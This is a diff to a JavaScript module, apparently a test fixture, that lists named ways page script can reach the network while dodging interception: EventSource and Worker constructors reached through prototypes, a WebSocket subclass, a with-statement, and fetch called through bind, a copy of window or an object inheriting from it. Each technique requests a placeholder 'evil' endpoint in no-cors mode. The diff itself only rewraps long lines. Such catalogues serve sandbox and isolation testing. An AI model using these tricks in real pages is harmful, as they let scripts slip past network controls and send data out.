@@ -69,7 +69,8 @@ export default {
     void new one.constructor(socket);
   },
   "the constructor of an event source": ({ evil }) => void new EventSource.prototype.constructor(evil),
-  "the constructor of a worker": ({ blob, sends }) => void new Worker.prototype.constructor(blob(sends, "text/javascript")),
+  "the constructor of a worker": ({ blob, sends }) =>
+    void new Worker.prototype.constructor(blob(sends, "text/javascript")),
   "super": ({ socket }) => {
     class Mine extends WebSocket {
       constructor() {
@@ -91,8 +92,10 @@ export default {
     return (into.fetch ?? fetch)(evil, { mode: "no-cors" });
   },
   "with": `({ evil }) => { with (window) { return fetch(evil, { mode: "no-cors" }); } }`,
-  "an object that inherits from the page": ({ evil }) => Object.create(window).fetch.call(window, evil, { mode: "no-cors" }),
-  "a copy of the page": ({ evil }) => ({ ...window }).fetch?.call(window, evil, { mode: "no-cors" }) ?? fetch(evil, { mode: "no-cors" }),
+  "an object that inherits from the page": ({ evil }) =>
+    Object.create(window).fetch.call(window, evil, { mode: "no-cors" }),
+  "a copy of the page": ({ evil }) =>
+    ({ ...window }).fetch?.call(window, evil, { mode: "no-cors" }) ?? fetch(evil, { mode: "no-cors" }),
   "bind": ({ evil }) => fetch.bind(window, evil, { mode: "no-cors" })(),
   "call on nothing": ({ evil }) => fetch.call(undefined, evil, { mode: "no-cors" }),
   "the source of a function": ({ evil }) => {
